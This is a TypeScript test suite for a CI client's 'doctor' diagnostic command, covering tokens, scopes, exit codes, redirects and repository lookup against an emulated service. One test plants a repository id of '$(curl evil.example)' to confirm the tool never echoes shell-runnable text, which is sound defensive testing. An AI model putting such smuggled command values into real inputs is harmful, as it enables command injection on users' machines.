import { expect, test } from "bun:test";
import type { Emulator } from "../../../../lib/emulator/emulator.ts";
import { type Diagnosis, doctor, type Instead } from "./doctor_world.ts";
import { READ_ONLY_TOKEN, REPO, world } from "../world.ts";

const WRITE_ONLY_TOKEN = "mog_aliceWriteOnlyToken0000000000001";
const HIDDEN_REPO = "e0000000-0000-4000-8000-000000000007";

/** Names of the checks that are not well, with their state. */
function unwell({ checks }: Diagnosis): Record<string, string> {
  const entries = Object.values(checks).filter(({ state }) => state !== "ok").map(({ name, state }) => [name, state]);
  return Object.fromEntries(entries);
}

/** Answers those requests that carry the token, or those that do not. */
function only(token: boolean, answer: () => Response): Instead {
  return (_url, init) => new Headers(init.headers).has("authorization") === token ? answer() : undefined;
}

const html = (status: number, headers: Record<string, string> = {}) => () =>
  new Response("<html>", { status, headers: { "content-type": "text/html", ...headers } });

test("doctor prints one line a check and ends with 0 when all is well", async () => {
  const diagnosis = await doctor();
  expect(diagnosis.code).toBe(0);
  expect(diagnosis.stderr).toBe("");
  expect((await diagnosis.text()).split("\n")).toEqual([
    "ok       runtime     node 20.20.0",
    "ok       ci          gitlab; a retried job finds its run; cleanup can detect how the job ended",
    "ok       variables   MOGPLEX_API_KEY",
    `ok       settings    a command waits at most 30 min; reports go to "mogplex-ci"`,
    "ok       checkout    no config file in the checkout affects this program",
    "ok       url         https://mogplex.com",
    "ok       token       from MOGPLEX_API_KEY",
    `ok       files       "mogplex-ci" is writable`,
    "ok       proxy       none",
    "ok       connection  the service answers",
    "ok       clock       same as the service",
    "ok       access      the service accepts the token",
    "ok       scopes      the token can start runs (read and write)",
    "ok       server      the service has no event streams; jobs poll instead, with the same result",
    `ok       repository  acme/api, default branch "main"`,
    "",
    "a run can start",
    "",
  ]);
});

test("doctor sends five requests without effect, of which the first shows no token, and takes no slot of starts", async () => {
  const { requests } = await doctor();
  expect(requests).toEqual([
    "GET /repos (no token)",
    "GET /repos",
    "GET /automations",
    "POST /runs",
    "GET /runs/00000000-0000-4000-8000-000000000000/events/stream",
  ]);
  const { cli, start, emulator } = world("");
  for (let count = 0; count < 5; count++) await cli(["doctor", "--repo", REPO]);
  // Ten starts a minute are all there are.
  for (let count = 0; count < 10; count++) await start(`Task ${count}`);
  expect(emulator.world.store.runs.size).toBe(10);
});

test("doctor sees the event stream where the service has one", async () => {
  const { checks } = await doctor({ revision: { stream: true } });
  expect(checks.server).toMatchObject({
    state: "ok",
    finding: "the service has event streams, so following a run takes few requests",
  });
});

test("doctor warns when the stream is there and does not work", async () => {
  const instead: Instead = (url) =>
    url.pathname.endsWith("/stream")
      ? Response.json({ ok: false, error: { code: "INTERNAL_ERROR", message: "Failed to stream events" } }, {
        status: 500,
      })
      : undefined;
  const { checks, code } = await doctor({ instead });
  expect({ code, state: checks.server?.state }).toEqual({ code: 0, state: "warning" });
  expect(checks.server?.finding).toContain("Failed to stream events");
});

test("doctor does not leave a stream open that an odd server begins", async () => {
  let ended = false;
  const body = () =>
    new ReadableStream<Uint8Array>({
      cancel() {
        ended = true;
      },
    });
  const headers = { "content-type": "text/event-stream" };
  const instead: Instead = (url) => url.pathname.endsWith("/stream") ? new Response(body(), { headers }) : undefined;
  expect((await doctor({ instead })).checks.server?.state).toBe("ok");
  expect(ended).toBe(true);
});

test("doctor finds a repository that is given by name, address or clone URL", async () => {
  const names = ["acme/api", "ACME/Api", "https://github.com/acme/api", "git@github.com:acme/api.git", "/acme/api/"];
  for (const name of names) {
    const { code, checks } = await doctor({ args: [], env: { MOGPLEX_REPO_ID: name } });
    expect({ name, code, repository: checks.repository }).toEqual({
      name,
      code: 0,
      repository: { name: "repository", state: "ok", finding: 'acme/api, default branch "main"', advice: null },
    });
  }
});

test("doctor takes the whole of a repository with sub-projects, and tells ids and roots when no row is that", async () => {
  const spaceId = "e0000000-0000-4000-8000-00000000aaaa";
  const withSpace = (root: string | null) => ({ world: { store } }: Emulator) => {
    store.repos.set(spaceId, { ...store.anyRepo(REPO), id: spaceId, root_directory: "docs" });
    store.anyRepo(REPO).root_directory = root;
  };
  const args = ["--repo", "acme/api"];
  expect((await doctor({ args, before: withSpace(null) })).checks.repository).toMatchObject({ state: "ok" });
  const { checks } = await doctor({ args, before: withSpace("packages/ui") });
  expect(checks.repository).toMatchObject({
    state: "failed",
    finding: 'several repositories have the name "acme/api"',
  });
  expect(checks.repository?.advice).toContain(`${spaceId} (root "docs")`);
});

test("doctor shows what a name could mean when no repository has that name", async () => {
  const near = await doctor({ args: ["--repo", "api"] });
  expect(near.checks.repository?.finding).toBe(`"api" was not found; the token can access acme/api (${REPO})`);
  const none = await doctor({ args: ["--repo", "acme/gone"] });
  expect(none.checks.repository?.finding).toEndWith("the token cannot access a repository with that name");
  expect([near.code, none.code]).toEqual([2, 2]);
});

test("doctor warns when a repository is not listed, and says that it may be hidden", async () => {
  const { code, checks } = await doctor({ args: ["--repo", HIDDEN_REPO] });
  expect(checks.repository).toMatchObject({ state: "warning" });
  expect(code).toBe(0);
  expect(checks.repository?.advice).toContain("hidden");
});

test("doctor fails when no repository is given to a job that needs one, and counts those that the token reaches", async () => {
  const { code, checks, text } = await doctor({ args: [] });
  expect(code).toBe(2);
  expect(checks.repository).toMatchObject({
    state: "failed",
    finding: "none given; the token can access 8 repositories",
  });
  expect(await text()).toEndWith('\na command would exit with 2: the check "repository" failed\n');
  // As the job itself, which looks at that first.
  const both = await doctor({ args: [], env: { MOGPLEX_API_KEY: "" } });
  expect([both.code, both.checks.repository?.finding]).toEqual([2, "none given"]);
  expect((await both.text()).split("\n").filter((line) => /^\w/.test(line)).slice(0, 3)).toEqual([
    expect.stringMatching(/^failed +repository +none given$/),
    expect.stringMatching(/^failed +token /),
    expect.stringMatching(/^ok +runtime /),
  ]);
});

test("doctor names the repository of a clone if stdout is not a terminal, as a start does", async () => {
  const files = { ".git/config": '[remote "origin"]\n\turl = https://github.com/acme/api.git\n' };
  const { cli } = world("success");
  const { code, stdout } = await cli(["doctor", "--json"], { env: { HOME: "/h/me" }, files });
  const lines = stdout.trim().split("\n").map((line) => JSON.parse(line));
  const check = lines.flatMap((line) => line.checks ?? line).find(({ name }) => name === "repository");
  expect([code, check.finding, check.advice]).toEqual([
    2,
    "the repository is missing, and origin is not used because stdout is a pipe or a file",
    "Add --repo acme/api",
  ]);
});

test("doctor shows no id that a shell could run", async () => {
  const repo = {
    id: "$(curl evil.example)",
    full_name: "acme/api",
    installation_id: 1,
    default_branch: "main",
    root_directory: null,
  };
  const instead: Instead = (url, init) =>
    url.pathname.endsWith("/repos") && new Headers(init.headers).has("authorization")
      ? Response.json({ ok: true, data: { repos: [repo] } })
      : undefined;
  const { checks } = await doctor({ args: ["--repo", "acme/api"], instead });
  expect(JSON.stringify(checks)).not.toContain("curl");
});

test("doctor ends with 64 when the service refuses the token, and still tells everything else", async () => {
  const diagnosis = await doctor({ env: { MOGPLEX_API_KEY: "mog_nobodyKnowsThisOne" } });
  expect(diagnosis.code).toBe(64);
  expect(unwell(diagnosis)).toEqual({ repository: "skipped", access: "failed", scopes: "skipped" });
  expect(diagnosis.checks.connection?.state).toBe("ok");
});

test("doctor ends with 64 when there is no token, shows which variable was meant, and still looks at the way", async () => {
  const wrong: [env: Record<string, string>, finding: string][] = [
    [{ MOGPLEX_API_KEY: "" }, "Cannot read token: variable MOGPLEX_API_KEY is empty"],
    [{ MOGPLEX_API_KEY: "'mog_aliceReadWriteToken0000000000001'" }, "in quotation marks"],
    [{ MOGPLEX_API_KEY: "$MOGPLEX_TOKEN" }, "not expanded"],
    [{ MOGPLEX_API_KEY: "Bearer mog_aliceReadWriteToken0000000000001" }, `the word "Bearer"`],
    [{ MOGPLEX_API_KEY: "mog_alice ReadWrite" }, "characters that are not allowed in a token"],
    [{ MOGPLEX_API_KEY: "", MOGPLEX_TOKEN_VARIABLE: "TEAM" }, "variable TEAM is not set"],
    [{ MOGPLEX_API_KEY: "", MOGPLEX_API_KEY_FILE: "/gone" }, "does not exist"],
  ];
  for (const [env, finding] of wrong) {
    const instead = only(false, html(302, { location: "https://elsewhere.example/" }));
    const diagnosis = await doctor({ env, instead });
    expect(diagnosis.checks.token?.finding).toContain(finding);
    // The redirect is not hidden by the token.
    expect(diagnosis.checks.connection?.finding).toContain(`"https://elsewhere.example"`);
    expect(diagnosis.requests).toEqual(["GET /repos (no token)"]);
    expect(diagnosis.code).toBe(finding.includes("does not exist") ? 2 : 64);
  }
});

test("doctor says where the token came from, and that blanks around it are removed", async () => {
  const token = "mog_aliceReadWriteToken0000000000001";
  const finding = async (env: Record<string, string>, files = {}) =>
    (await doctor({ env, files })).checks.token?.finding;
  expect(await finding({ MOGPLEX_API_KEY: ` ${token}\n` })).toBe(
    "from MOGPLEX_API_KEY; spaces and line breaks around it are ignored",
  );
  expect(await finding({ MOGPLEX_API_KEY: "", MOGPLEX_TOKEN_VARIABLE: "TEAM", TEAM: token })).toBe("from TEAM");
  const file = { MOGPLEX_API_KEY: "", MOGPLEX_API_KEY_FILE: "/run/token" };
  expect(await finding(file, { "/run/token": `${token}\n` })).toBe("from the MOGPLEX_API_KEY_FILE file");
});

test("doctor warns of a token without the prefix, which the service takes for one of OAuth", async () => {
  const { checks, code } = await doctor({ env: { MOGPLEX_API_KEY: "someOauthTokenOfNobody" } });
  expect(checks.token?.state).toBe("warning");
  expect(code).toBe(64);
});

/** Answers like those to a token that may only trigger automations. */
const RESTRICTED: Instead = (_url, { method }) =>
  method === "POST"
    ? Response.json({ ok: false, error: { code: "AUTOMATION_REQUIRED", message: "no" } }, { status: 403 })
    : undefined;

test("doctor ends with 65 for a token that cannot start a run, as the job would", async () => {
  const reader = await doctor({ env: { MOGPLEX_API_KEY: READ_ONLY_TOKEN } });
  expect({ code: reader.code, check: reader.checks.scopes }).toEqual({
    code: 65,
    check: {
      name: "scopes",
      state: "failed",
      finding: "the token cannot start runs, because the write scope is missing",
      advice: "Create a token with the read and write scopes (Settings > Mogplex Keys)",
      code: 65,
      startsRuns: false,
    },
  });
  expect(await reader.text()).toEndWith(
    '\na command would exit with 65: the check "scopes" failed\n',
  );
  const { code, checks } = await doctor({ instead: RESTRICTED });
  expect([code, checks.scopes?.state, checks.scopes?.startsRuns]).toEqual([65, "failed", false]);
  expect(checks.scopes?.finding).toBe("the token can read and trigger automations, but cannot start runs");
});

test("doctor --for asks for what a job of that purpose needs", async () => {
  const reader = { env: { MOGPLEX_API_KEY: READ_ONLY_TOKEN } };
  const writer = {};
  const restricted = { instead: RESTRICTED };
  const cases: [purpose: string, options: object, code: number, last: string][] = [
    ["run", writer, 2, 'a command would exit with 2: the check "repository" failed'],
    ["follow", reader, 0, "runs can be followed"],
    ["follow", writer, 0, "runs can be followed"],
    ["follow", restricted, 0, "runs can be followed"],
    ["dashboard", reader, 0, "a dashboard can be written"],
    ["dashboard", writer, 2, 'a command would exit with 2: the check "scopes" failed'],
    ["dashboard", restricted, 2, 'a command would exit with 2: the check "scopes" failed'],
    ["automation", writer, 2, 'a command would exit with 2: the check "repository" failed'],
  ];
  const named: typeof cases = [
    ["run", writer, 0, "a run can start"],
    ["automation", restricted, 0, "an automation can be triggered"],
    ["automation", writer, 0, "an automation can be triggered"],
    ["automation", reader, 65, 'a command would exit with 65: the check "scopes" failed'],
  ];
  for (const [rows, repo] of [[cases, []], [named, ["--repo", REPO]]] as const) {
    for (const [purpose, options, code, last] of rows) {
      const diagnosis = await doctor({ ...options, args: ["--for", purpose, ...repo] });
      const text = await diagnosis.text();
      expect([purpose, diagnosis.code, text.trimEnd().split("\n").at(-1)]).toEqual([purpose, code, last]);
    }
  }
});

test("doctor --for dashboard says nothing of keys, waits and reports: a dashboard has no run", async () => {
  const { code, text } = await doctor({ env: { MOGPLEX_API_KEY: READ_ONLY_TOKEN }, args: ["--for", "dashboard"] });
  const printed = await text();
  expect(code).toBe(0);
  expect(printed).not.toMatch(/attaches|a command waits|is writable|finds its run/);
  expect(printed).toMatch(/^skipped {2}files +a dashboard writes only to its own --out$/m);
});

test("doctor --for dashboard warns when the token cannot access a repository", async () => {
  const options = { env: { MOGPLEX_API_KEY: READ_ONLY_TOKEN }, args: ["--for", "dashboard"] };
  const { checks } = await doctor(options);
  expect([checks.repository?.state, checks.repository?.finding]).toEqual([
    "ok",
    expect.stringMatching(/^the token can access \d+ repositor(y|ies)$/),
  ]);
  const instead: Instead = (url) =>
    url.pathname.endsWith("/repos") && url.search !== "" ? Response.json({ ok: true, data: { repos: [] } }) : undefined;
  const none = await doctor({ ...options, instead });
  const { state, finding, advice } = none.checks.repository ?? {};
  expect([none.code, state, finding]).toEqual([0, "warning", "the token can access 0 repositories"]);
  expect(advice).toStartWith("Create the token as the user whose token your jobs use");
});

test("doctor ends with 65 when the token has no scope at all", async () => {
  const forbidden = () => Response.json({ ok: false, error: { code: "FORBIDDEN", message: "scope" } }, { status: 403 });
  const instead: Instead = (url) => /\/(runs|automations)$/.test(url.pathname) ? forbidden() : undefined;
  const { code, checks } = await doctor({ instead });
  expect({ code, state: checks.scopes?.state }).toEqual({ code: 65, state: "failed" });
});

test("doctor warns when the read scope is missing", async () => {
  const { code, checks } = await doctor({ env: { MOGPLEX_API_KEY: WRITE_ONLY_TOKEN } });
  expect({ code, state: checks.scopes?.state }).toEqual({ code: 0, state: "warning" });
  expect(checks.scopes?.finding).toContain("read is missing");
});

test("doctor ends with 65 when a stricter service refuses the listing", async () => {
  const instead = only(
    true,
    () =>
      Response.json({ ok: false, error: { code: "FORBIDDEN", message: "Missing required scope: read." } }, {
        status: 403,
      }),
  );
  const { code, checks } = await doctor({ instead });
  expect({ code, state: checks.access?.state }).toEqual({ code: 65, state: "failed" });
});

test("doctor ends with 75 when the token has used up its requests, and does not wait", async () => {
  const diagnosis = await doctor({
    before: (emulator) =>
      void emulator.control("fault", { kind: "429", route: "GET /repos", times: 9, retryAfter: 60 }),
    instead: only(false, html(401)),
  });
  expect(diagnosis.code).toBe(75);
  expect(diagnosis.checks.access?.advice).toContain("deadline");
  expect(diagnosis.tookMs).toBeLessThan(1_000);
});

test("doctor ends with 69 when the service has a problem", async () => {
  for (const kind of ["503", "503-no-retry", "500", "html502", "truncated", "reset0", "resetMid"] as const) {
    const { code, checks } = await doctor({
      before: (emulator) => void emulator.control("fault", { kind, times: 99 }),
      instead: only(false, html(401)),
    });
    expect({ kind, code, access: checks.access?.state }).toEqual({ kind, code: 69, access: "failed" });
  }
});

test("doctor gives no verdict on one lost answer", async () => {
  const { code } = await doctor({
    before: (emulator) => void emulator.control("fault", { kind: "reset0", times: 1 }),
    instead: only(false, html(401)),
  });
  expect(code).toBe(0);
});

test("doctor ends within 20 seconds when the service does not answer", async () => {
  const silent: Instead = (_url, init) =>
    new Promise((_, reject) => init.signal?.addEventListener("abort", () => reject(init.signal?.reason)));
  const whole = await doctor({ instead: silent });
  expect(whole).toMatchObject({ code: 69, tookMs: 5_000 });
  expect(whole.checks.connection?.advice).toContain("firewall");
  expect(unwell(whole)).toEqual({
    repository: "skipped",
    connection: "failed",
    clock: "skipped",
    access: "skipped",
    scopes: "skipped",
    server: "skipped",
  });
  const half = await doctor({
    instead: (url, init) => new Headers(init.headers).has("authorization") ? silent(url, init) : undefined,
  });
  expect(half.code).toBe(69);
  expect(half.tookMs).toBeGreaterThan(5_000);
});

test("doctor ends with 69 when the address leads elsewhere", async () => {
  const answers: [answer: () => Response, words: string][] = [
    [html(308, { location: "https://other.example/api" }), `the server redirects to "https://other.example"`],
    [html(302, { location: "https://sso.example/login?next=1" }), `the server redirects to "https://sso.example"`],
    [html(302, { location: "//sso.example/login" }), `the server redirects to "https://sso.example"`],
    [html(301, { location: "/en/api" }), `the server redirects to "another path"`],
    [html(301), `the server redirects to "another path"`],
    [html(302, { location: "http://[" }), `redirects to "nowhere"`],
    [html(200), `is not Mogplex (HTTP 200, content type "text/html")`],
    [html(404), "is not Mogplex (HTTP 404"],
    [html(503), "has a problem (HTTP 503"],
  ];
  for (const [answer, words] of answers) {
    const { code, checks } = await doctor({ instead: answer });
    expect(checks.connection?.finding).toContain(words);
    expect({ words, code }).toEqual({ words, code: 69 });
  }
});

test("doctor only warns of a host that rejects requests without a token, while the service accepts the token", async () => {
  const { code, checks } = await doctor({ instead: only(false, html(403)) });
  expect(code).toBe(0);
  expect(checks.connection).toMatchObject({
    state: "warning",
    advice: "Nothing to fix, as long as the service accepts the token",
  });
});

test("doctor announces another origin on stderr, and speaks to it", async () => {
  const { stderr, checks, requests } = await doctor({
    env: { MOGPLEX_URL: "http://127.0.0.1:8080", MOGPLEX_DEV: "1" },
  });
  expect(stderr).toBe("note: sending requests and the token to http://127.0.0.1:8080, unencrypted\n");
  expect(checks.url?.finding).toBe("http://127.0.0.1:8080, not the default address, unencrypted");
  expect(requests.length).toBe(5);
});

test("doctor ends with 2 and sends nothing when the address is not allowed", async () => {
  const urls = [
    "http://mogplex.example",
    "mogplex.com",
    "https://mogplex.com/api",
    "https://user:secretword@mogplex.com",
  ];
  for (const url of urls) {
    const { code, checks, requests, stderr } = await doctor({ env: { MOGPLEX_URL: url } });
    expect({ url, code, requests, state: checks.url?.state }).toEqual({ url, code: 2, requests: [], state: "failed" });
    expect(JSON.stringify(checks) + stderr).not.toContain("secretword");
  }
});

test("doctor warns of a clock that is off by more than 30 seconds, and names the effect", async () => {
  // The virtual clock begins there.
  const dated = (aheadMs: number): Instead => {
    const date = new Date(Date.UTC(2026, 8, 1) - aheadMs).toUTCString();
    return only(false, () => new Response("", { status: 401, headers: { date } }));
  };
  const clock = async (aheadMs: number) => (await doctor({ instead: dated(aheadMs) })).checks.clock;
  expect(await clock(0)).toMatchObject({ state: "ok", finding: "same as the service" });
  expect(await clock(30_000)).toMatchObject({ state: "ok", finding: "this machine is 30 s ahead of the service" });
  expect(await clock(31_000)).toMatchObject({ state: "warning", finding: "this machine is 31 s ahead of the service" });
  const late = await clock(-300_000);
  expect(late).toMatchObject({ state: "warning", finding: "this machine is 5 min behind the service" });
  expect(late?.advice).toContain("keys with the key scope day");
  const untold = await doctor({ instead: only(false, html(401)) });
  expect(untold.checks.clock).toMatchObject({ state: "skipped", finding: "the response has no date" });
});

/** The lines of the text that are not \`ok\`. */
async function troubles(diagnosis: Diagnosis): Promise<string[]> {
  return (await diagnosis.text()).split("\n").filter((line) => line !== "" && !line.startsWith("ok"));
}

test("doctor names a fault once, with the checks that follow from it in one line after it", async () => {
  const down = await doctor({ instead: html(503) });
  expect(down.checks.access).toMatchObject({ state: "skipped", finding: "connection failed" });
  expect(await troubles(down)).toEqual([
    `failed   connection  the server has a problem (HTTP 503, content type "text/html")`,
    "                     > Try again later; a job retries automatically",
    "skipped  clock       the response has no date",
    "skipped  access, scopes, server, repository  connection failed",
    'a command would exit with 69: the check "connection" failed',
  ]);
  const refused = await doctor({ env: { MOGPLEX_API_KEY: "mog_nobodyKnowsThisOne" } });
  expect((await troubles(refused)).map((line) => line.slice(0, 19).trim())).toEqual([
    "failed   access",
    "",
    "skipped  scopes",
    "skipped  repository",
    "a command would exi",
  ]);
  const none = await doctor({ env: { MOGPLEX_API_KEY: "" } });
  expect(await troubles(none)).toContain("skipped  access, scopes, server, repository  token failed");
});

test("doctor names MOGPLEX_DEV=1 where only that is missing", async () => {
  const { checks } = await doctor({ env: { MOGPLEX_URL: "http://127.0.0.1:8080" } });
  expect(checks.url).toMatchObject({
    finding: `Cannot use MOGPLEX_URL because plain HTTP would expose the token to the network: "http://127.0.0.1:8080"`,
    advice: "Set MOGPLEX_DEV=1 to allow it for this host",
  });
});

test("doctor speaks of no proxy where the service is on this machine", async () => {
  const refused: Instead = () => {
    throw new TypeError("connect ECONNREFUSED");
  };
  const advice = async (env: Record<string, string>) =>
    (await doctor({ env, instead: refused })).checks.connection?.advice;
  const local = { MOGPLEX_URL: "http://127.0.0.1:8080", MOGPLEX_DEV: "1" };
  expect(await advice(local)).toBe(
    "Nothing is listening there: check MOGPLEX_URL; check that the service is running there",
  );
  expect(await advice({})).toContain("HTTPS_PROXY");
  const proxy = { HTTPS_PROXY: "http://proxy.corp:3128", MOGPLEX_URL: "https://localhost:8443" };
  expect((await doctor({ env: proxy })).checks.proxy).toMatchObject({ state: "ok", finding: "none" });
});

test("doctor names the repository that a typing error hides", async () => {
  const { checks, code } = await doctor({ args: ["--repo", "acme/aip"] });
  expect([code, checks.repository?.advice]).toEqual([
    2,
    'Did you mean "acme/api"? `mogplex-ci repos list` shows the names',
  ]);
});
